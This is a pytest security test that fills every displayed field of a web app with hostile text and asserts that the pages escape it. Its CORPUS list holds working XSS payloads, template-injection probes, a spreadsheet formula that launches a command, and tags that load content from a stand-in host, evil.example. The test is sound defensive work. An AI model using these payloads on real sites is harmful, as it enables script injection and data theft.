"""Hostile text in every field that pages show: it is read, and does nothing."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from functools import partial
from itertools import count
from urllib.parse import quote
from uuid import UUID

import pytest
from selectolax.lexbor import LexborHTMLParser
from starlette.testclient import TestClient

from db.people.records import EVERY_ACCOUNT, Role
from review.http.page_routes import PageRoute
from review.http.templating import with_direction_codes
from review.http.visit import SESSION_COOKIE
from review.routes import PAGES
from review.services.first_run import FirstRunServices
from tests.support.review_world import APPEAL_SECRET, QUERIES, SAMPLES, World
from tests.support.reviewing import site_with
from worker.displayed.direction import DIRECTION_CONTROL

MARK = "hostile"
RELEASE = """
    WITH freed AS (
        UPDATE queue_items SET claimed_by = NULL, assigned_to = NULL WHERE claimed_by = %s RETURNING id
    )
    SELECT count(*) FROM freed
"""
"""Whoever holds a decision does not see what others noted on it."""
CONNECTED = """
    INSERT INTO model_servers (role, url, model, changed_by) VALUES ('judge', %s, %s, 'admin')
    ON CONFLICT (role) DO UPDATE SET url = excluded.url, model = excluded.model RETURNING 1
"""
CAREFUL = """
    INSERT INTO ai_rules SELECT (jsonb_populate_record(r, jsonb_build_object(
        'version', r.version + 1, 'reply_mode', 'suggest'))).*
    FROM ai_rules r WHERE user_id = %s ORDER BY version DESC LIMIT 1 RETURNING 1
"""
"""The page that switches on automatic answers shows drafts while these are off."""
CORPUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "</textarea><script>alert(1)</script>",
    "</title></style></select><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "{{ config.__class__ }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200f",
    "\x1b[31m\x07\x85\ufeff\ufffe",
    "𝔥𝔬𝔰𝔱𝔦𝔩𝔢 👩‍👩‍👧‍👦",
    "W" * 400,
    "=cmd|' /C calc'!A0",
    "<base href=//evil.example><form action=//evil.example><meta http-equiv=refresh content=0;url=//evil>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=javascript:alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<img src=//evil.example/x><link rel=stylesheet href=//evil.example>",
    "<div hx-get=//evil.example hx-trigger=load data-hx-on:load=alert(1)>",
    "<style>@import '//evil.example'</style>",
)
MOST = dict.fromkeys(("matched_rule", "finding rule", "keyword", "phrase", "allowed", "figure note"), 80) | {
    "golden set": 40,
    "golden row": 80,
}
"""Characters of the texts of fields with a limit."""
UNSEEN = {
    "event_id",
    "evidence",
    "job error",
    "label",
    "label value",
    "candidate prompt",
    "passage text",
    "page of a document",  # it stands in an image
}
"""Fields that no page shows, or only after something was asked or went wrong."""
SHOWS = {"account_answered": "answer", "account_waiting": "waiting draft", "automatic": "waiting draft"}
"""Pages of fields that other pages show too."""
Filled = tuple[World, TestClient, UUID, dict[str, set[str]]]
FIELDS = {"title", "textarea", "option"}
"""Elements that hold text only: no code of a direction control can be shown there."""
URLS = ("href", "src", "action", "formaction", "poster", "data", "xlink:href", "srcset", "ping")
IMAGE = re.compile(r"/static/|/accounts/[^/?#]+/documents/\d+/pages/\d+\Z")
RUNNING = re.compile(r"^\s*(javascript|data|vbscript|file)\s*:", re.IGNORECASE)
GETS = [page for page in PAGES if page.methods == ("GET",) and page.right is not None and not page.api]
GETS += [page for page in GETS if page.name == "trial"] * 2  # of each kind one


_services = FirstRunServices(test_servers=lambda _: ())
_site = partial(site_with, _services, HUSHGATE_APPEAL_SECRET=APPEAL_SECRET)


class Hostile:
    """Gives each field the next text of the corpus, with a mark by which it is found again."""

    def __init__(self, first: int) -> None:
        self._numbers = count(first)
        self.given: dict[str, set[str]] = {}

    def __call__(self, field: str) -> str:
        """The next text, for this field."""
        number = next(self._numbers)
        text = CORPUS[number % len(CORPUS)][: MOST.get(field)]
        marked = f"{MARK}{field}{text}"
        self.given.setdefault(field, set()).add(marked)
        return marked


@pytest.fixture(scope="module", params=range(0, len(CORPUS), 5))
def filled(database_url: str, request: pytest.FixtureRequest) -> Iterator[Filled]:
    """A site over an account whose every text is hostile; each field meets the whole corpus by turns."""
    hostile = Hostile(request.param)
    with World(database_url, hostile("account"), hostile) as world, _site(database_url) as visitor:
        roles = ((EVERY_ACCOUNT, role.value) for role in Role)
        login = f"{hostile('login')}{request.param}".lower()
        person = world.person(*roles, name=hostile("name"), login=login)
        for sample in SAMPLES.values():
            sample(world, person)
        world.suggested()
        world.answered()
        world.rated()
        world.checked()
        world.shadowed()
        world.one(RELEASE, person)
        detail = '{"query": ' + json.dumps(hostile("detail")) + "}"
        world.add(
            "access_log", action="search", person=hostile("person"), user_id=world.account, detail=detail
        )
        world.add("api_tokens", **token(person, hostile("token name"), request.param))
        world.one(CAREFUL, world.account)
        world.one(CONNECTED, hostile("server"), hostile("model name"))
        yield world, visitor().client, person, hostile.given


def token(person: UUID, name: str, number: int) -> dict[str, object]:
    """A row of an API token."""
    until = datetime.now(UTC) + timedelta(days=1)
    return {
        "id": UUID(int=person.int ^ 1),
        "person_id": person,
        "name": name,
        "token_hash": f"{person}{number}".encode(),
        "prefix": "hg_hidden",
        "expires_at": until,
    }


def opened(world: World, client: TestClient, person: UUID, page: PageRoute) -> str:
    """A page as somebody with every role gets it."""
    client.cookies.clear()
    client.cookies.set(SESSION_COOKIE, world.session(person), domain="127.0.0.1")
    sample = re.compile(r"\{(\w+)(?::\w+)?\}")
    path = sample.sub(lambda found: quote(str(SAMPLES[found[1]](world, person)), safe=""), page.path)
    response = client.get(path + QUERIES.get(page.name, ""), follow_redirects=True)
    assert response.status_code in {200, 404}, (page.name, response.status_code, response.text[:400])
    if "html" not in response.headers["content-type"]:
        assert response.headers["x-content-type-options"] == "nosniff"
        return ""
    return str(response.text)


def read(text: str) -> str:
    """What a person sees of a page and what its fields hold, without spaces and what cannot be seen."""
    tree = LexborHTMLParser(text)
    values = [value or "" for node in tree.css("*") for value in node.attributes.values()]
    return squeezed("\n".join([tree.body.text() if tree.body else "", *values]))


def squeezed(text: str) -> str:
    """Letters and digits alone, without case, which logins lose, and without what JSON escapes."""
    return "".join(
        each for each in re.sub(r"\\u[0-9a-f]{4}|\\[nrtbf]", "", text.casefold()) if each.isalnum()
    )


def check(text: str) -> None:
    """Nothing in a page runs, loads or leads away, but what the templates wrote."""
    assert "\x00" not in text
    for script in re.findall(r"<script[^>]*>", text):
        assert re.fullmatch(r'<script src="/static/[\w./-]+\?v=[0-9a-f]+" defer>', script), script
    tree = LexborHTMLParser(text)
    assert not tree.css("iframe, object, embed, base, math, style, animate, applet")
    is_whole = text.lstrip().lower().startswith("<!doctype")  # parts that load on their own are none
    assert not is_whole or tree.css_first("title") is not None
    for node in tree.css("*"):
        if node.tag not in FIELDS and node.attributes.get("class") != "invisible":
            assert not DIRECTION_CONTROL.search(node.text(deep=False)), (node.tag, node.text(deep=False))
        for name, value in node.attributes.items():
            assert not name.lower().startswith(("on", "hx-on", "data-hx-")), (node.tag, name, value)
            assert name.lower() not in {"style", "srcdoc", "autofocus"}, (node.tag, name, value)
            if name.lower() in URLS or name.lower().startswith("hx-"):
                address = value or ""
                assert not RUNNING.match(address), (node.tag, name, address)
                assert not address.strip().startswith("//"), (node.tag, name, address)
                assert MARK in address or "evil.example" not in address
        assert node.tag != "img" or IMAGE.match(node.attributes.get("src") or "")
        assert node.tag != "meta" or node.attributes.get("http-equiv") is None


def test_no_page_lets_hostile_text_out_of_its_place(filled: Filled) -> None:
    """All pages, with every field hostile: scripts, handlers, addresses, tags and templates stay text."""
    world, client, person, given = filled
    seen = ""
    for page in GETS:
        text = opened(world, client, person, page)
        if text:
            check(text)
            assert page.name not in SHOWS or squeezed(f"{MARK}{SHOWS[page.name]}") in read(text)
            assert not re.search(rf"{MARK}[a-z_ ]+49", text)
            seen += read(text)
    invitation = client.get(f"/invitation/{SAMPLES['token'](world, person)}")
    check(invitation.text)
    seen += read(invitation.text)
    linked = client.get(f"/appeal/{SAMPLES['link'](world, person)}")
    assert linked.status_code == 200
    check(linked.text)
    seen += read(linked.text)

    unseen = {field for field, texts in given.items() if not any(squeezed(each) in seen for each in texts)}
    assert ", ".join(sorted(unseen - UNSEEN)) == ""


def test_the_corpus_is_noticed_where_it_is_not_escaped() -> None:
    """The check itself finds each kind of breach."""
    page = "<!doctype html><title>x</title><p>{}</p>"
    check(with_direction_codes(page.format(html.escape("".join(CORPUS)))))
    for breach in (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<svg onload=alert(1)></svg>",
        "<p style=color:red>x</p>",
        "<iframe></iframe>",
        "<a href=//evil.example>x</a>",
        "<meta http-equiv=refresh content=0>",
        "<b>\u202eyadot</b>",
    ):
        with pytest.raises(AssertionError):
            check(page.format(breach))
